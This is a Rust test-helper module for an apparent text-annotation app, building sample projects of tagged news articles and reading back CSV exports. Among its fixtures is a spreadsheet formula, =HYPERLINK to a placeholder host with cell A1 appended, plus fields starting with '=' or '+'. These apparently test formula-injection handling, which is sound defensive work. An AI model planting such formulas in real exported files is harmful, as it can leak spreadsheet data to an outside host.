//! What several of these tests need: test articles from disk, and a small project written by hand.

use std::path::{Path, PathBuf};

use demarche::domain::json::parse;
use demarche::domain::{
    Actor, ActorId, ActorType, Affiliation, Anchor, Annotation, AnnotationId, Attribution, Code,
    CodeId, Codebook, Coder, CoderId, Confidence, Document, Evaluation, Extra, Frame,
    Justification, KindId, LogEntry, Naming, Origin, Part, Parts, Position, Project, ProjectId,
    ProjectMeta, Relation, RelationId, RelationTypeId, Revision, SequentialIds, Span, Tie,
    Timestamp,
};
use demarche::edit::{Command, Context, Session, command};
use demarche::format::plain_text;
use demarche::format::sample::{Example, sample_coder};
use uuid::Uuid;

/// 24 November 2026, 09:30 UTC.
pub(crate) const NOW: Timestamp = Timestamp(1_795_512_600_000);

pub(crate) fn data(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data")
        .join(name)
}

pub(crate) fn bytes(name: &str) -> Vec<u8> {
    let path = data(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// A test article as the app opens it; its id is `id`.
pub(crate) fn article(name: &str, id: u128) -> Document {
    let mut ids = SequentialIds::starting_at(id);
    plain_text::article(name, &bytes(name), &mut ids, NOW).unwrap_or_else(|e| panic!("{name}: {e}"))
}

/// Where the words stand for the first time.
pub(crate) fn place(document: &Document, words: &str) -> Span {
    let all = document.text.as_str();
    let at = all
        .find(words)
        .unwrap_or_else(|| panic!("“{words}” is not in the text"));
    let before = all[..at].chars().count() as u32;
    let length = words.chars().count() as u32;
    let start = demarche::domain::Offset(before);
    Span::new(start, start.plus(length))
}

pub(crate) fn coder(id: u128, name: &str) -> Coder {
    Coder {
        id: CoderId::new(Uuid::from_u128(id)),
        name: name.to_owned(),
        extra: Extra::new(),
    }
}

/// A tag on the given words, one stretch each.
pub(crate) fn tag(id: u128, document: &Document, kind: &str, words: &[&str]) -> Annotation {
    let spans: Vec<Span> = words.iter().map(|w| place(document, w)).collect();
    Annotation {
        id: AnnotationId::new(Uuid::from_u128(id)),
        document: document.id(),
        kind: KindId::new(kind),
        anchor: Anchor::describe(&document.text, &spans).unwrap(),
        lost: None,
        coded: None,
        actor: None,
        naming: None,
        memo: String::new(),
        confidence: None,
        coder: coder(1, "").id,
        created: NOW,
        modified: NOW,
        codebook_version: 1,
        origin: Origin::Human,
        extra: Extra::new(),
    }
}

/// Four articles and tags of every sort: overlapping, nested, identical, in two parts, on emoji and right-to-left text,
/// with memos that spreadsheets would run, by two coders, with keys of another program.
pub(crate) fn plain_project() -> Project {
    let mut news = article("article.txt", 0x10);
    news.meta.outlet = "Velmora Gazette".to_owned();
    news.meta.author = "Ilsa Corrin".to_owned();
    news.meta.section = "Harbour".to_owned();
    news.meta.language = "en".to_owned();
    news.meta.notes = "Read twice.".to_owned();
    let emoji = article("emoji.txt", 0x11);
    let arabic = article("arabic.txt", 0x12);
    let markup = article("markup.txt", 0x13);

    let mut tags = vec![
        tag(
            0x20,
            &news,
            "claim",
            &["the town could not wait another winter for a safe landing"],
        ),
        tag(
            0x21,
            &news,
            "demand",
            &["asked the families to give up eleven berths"],
        ),
        tag(0x22, &news, "actor", &["Mayor Ilsa Corrin"]),
        tag(
            0x23,
            &news,
            "demand",
            &["publish the drawings", "before any boat is moved"],
        ),
        tag(
            0x24,
            &news,
            "claim",
            &["publish the drawings, all of them, and to do so"],
        ),
        tag(
            0x25,
            &news,
            "demand",
            &["publish the drawings, all of them, and to do so"],
        ),
        tag(0x26, &news, "actor", &["the families"]),
        tag(
            0x27,
            &markup,
            "claim",
            &["=HYPERLINK(\"https://example.invalid/?\"&A1,\"Open\")"],
        ),
    ];
    let border = "A family of four 👨‍👩‍👧‍👦 waits at the border";
    tags.push(tag(0x30, &emoji, "claim", &[border]));
    tags.push(tag(0x31, &arabic, "actor", &["مجلس مدينة نور البحر"]));
    tags[0].memo = "+ says “winter”, not “year”\nCorrin → families".to_owned();
    tags[0].confidence = Confidence::new(0.8);
    tags[1].coder = coder(2, "Bo \"B\" Ek, PhD").id;
    tags[1].confidence = Confidence::new(1.0);
    tags[1].extra.insert(
        "stance".to_owned(),
        parse(br#"["against", 0.5, null]"#).unwrap(),
    );
    tags[2].origin = Origin::Imported;

    let meta = ProjectMeta {
        id: ProjectId::new(Uuid::from_u128(0x1)),
        title: "Harbour: ferries/berths".to_owned(),
        created: NOW,
        sample: false,
        lost: Vec::new(),
        extra: Extra::from([("funder".to_owned(), parse(br#"{ "grant": 7 }"#).unwrap())]),
    };
    assembled(
        meta,
        Codebook::claims_actors_demands(),
        vec![coder(1, ""), coder(2, "Bo \"B\" Ek, PhD")],
        vec![news, emoji, arabic, markup],
        tags,
    )
}

/// The same with everything coded that can be: claimants by register and by mention, issues in a tree, links, a log.
pub(crate) fn mixed_project() -> Project {
    let plain = plain_project();
    let mut codebook = (**plain.codebook()).clone();
    let code = |id: &str, label: &str| Code::named(CodeId::new(id), label);
    codebook.issues = vec![code("harbour", "Harbour"), code("berths", "Berths; boats")];
    codebook.issues[1].parent = Some(codebook.issues[0].id.clone());
    codebook.issues[1].guide.include = "moorings".to_owned();
    codebook.forms = vec![code("speech", "Speech")];
    codebook.justifications = vec![code("safety", "Safety")];
    codebook.version = 2;
    codebook.revisions = vec![Revision {
        version: 2,
        at: NOW,
        coder: coder(1, "").id,
        note: "Added issues".to_owned(),
        extra: Extra::new(),
    }];
    let actor = |n: u128, name: &str| Actor::named(ActorId::new(Uuid::from_u128(n)), name);
    let mut mayor = actor(0x41, "Ilsa Corrin");
    mayor.aliases = vec!["the mayor".to_owned()];
    mayor.of_type = Some(ActorType::Person);
    mayor.wikidata = "Q1".to_owned();
    mayor.attributes = vec![("term".to_owned(), "2".to_owned())];
    let town = actor(0x42, "Velmora");
    mayor.affiliations = vec![Affiliation {
        to: town.id,
        tie: Tie::SpeaksFor,
        role: "mayor".to_owned(),
        from: "2019".parse().ok(),
        until: None,
        extra: Extra::new(),
    }];
    let mut tags: Vec<Annotation> = plain.annotations().map(|tag| (**tag).clone()).collect();
    tags[2].actor = Some(mayor.id);
    tags[2].naming = Some(Naming::Name);
    let by_mention = Part {
        evaluation: Some(Evaluation::Negative),
        ..Part::mention(tags[6].id)
    };
    let frame = Frame {
        claimants: vec![Part::actor(mayor.id), Part::actor(town.id)],
        addressees: vec![by_mention],
        issues: codebook.issues.iter().map(|c| c.id.clone()).collect(),
        position: Position::For,
        proposition: "The families give up berths".to_owned(),
        form: Some(codebook.forms[0].id.clone()),
        justifications: vec![Justification {
            code: codebook.justifications[0].id.clone(),
            position: Position::Against,
            extra: Extra::new(),
        }],
        condition: "=if the drawings are published".to_owned(),
        attribution: Some(Attribution::Indirect),
        reporters: vec![town.id],
        date: "2021-06".parse().ok(),
        place: "Velmora".to_owned(),
        ..Frame::empty()
    };
    tags[1] = tags[1].with_frame(frame);
    let relation = Relation {
        id: RelationId::new(Uuid::from_u128(0x51)),
        from: tags[3].id,
        to: tags[1].id,
        of_type: RelationTypeId::new("rejects"),
        note: "on the same day".to_owned(),
        coder: coder(1, "").id,
        created: NOW,
        modified: NOW,
        codebook_version: 2,
        origin: Origin::Human,
        extra: Extra::new(),
    };
    let log = LogEntry {
        at: NOW,
        coder: coder(1, "").id,
        what: "Linked two statements".to_owned(),
        extra: Extra::new(),
    };
    let parts = Parts {
        coders: plain.coders().map(|c| (**c).clone()).collect(),
        actors: vec![mayor, town],
        documents: plain.documents().iter().map(|d| (**d).clone()).collect(),
        annotations: tags,
        relations: vec![relation],
        log: vec![log],
        ..Parts::new(plain.meta().clone(), codebook)
    };
    Project::assemble(parts).unwrap()
}

/// A project of these parts, without actors and links.
pub(crate) fn assembled(
    meta: ProjectMeta,
    codebook: Codebook,
    coders: Vec<Coder>,
    documents: Vec<Document>,
    annotations: Vec<Annotation>,
) -> Project {
    let parts = Parts {
        coders,
        documents,
        annotations,
        ..Parts::new(meta, codebook)
    };
    Project::assemble(parts).unwrap()
}

/// A session on the practice project, with the worked example taken in.
pub(crate) fn taken_in(example: Example, project: Project) -> Session {
    let coder = Coder {
        id: CoderId::new(Uuid::from_u128(3)),
        name: "Ann".to_owned(),
        extra: Extra::new(),
    };
    let mut session = Session::new(project, coder);
    run(
        &mut session,
        &command::TakeIn {
            title: "Showed".to_owned(),
            coder: sample_coder(),
            issues: example.issues,
            actors: example.actors,
            annotations: example.annotations,
            relations: example.relations,
        },
    );
    session
}

pub(crate) fn run(session: &mut Session, command: &dyn Command) {
    let mut ids = SequentialIds::starting_at(9000);
    let ids = &mut ids;
    session
        .dispatch(command, &mut Context { now: NOW, ids })
        .unwrap();
}

/// Rows of an RFC 4180 file, by a reader that knows nothing of the writer.
pub(crate) fn read_csv(file: &str) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let mut quoted = false;
    let mut characters = file.strip_prefix('\u{feff}').unwrap().chars().peekable();
    while let Some(c) = characters.next() {
        let row = rows.last_mut().unwrap();
        match c {
            '"' if quoted && characters.peek() == Some(&'"') => {
                characters.next();
                row.last_mut().unwrap().push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(String::new()),
            '\r' if !quoted => {
                assert_eq!(characters.next(), Some('\n'));
                rows.push(vec![String::new()]);
            }
            c => row.last_mut().unwrap().push(c),
        }
    }
    assert_eq!(rows.pop(), Some(vec![String::new()]));
    rows
}
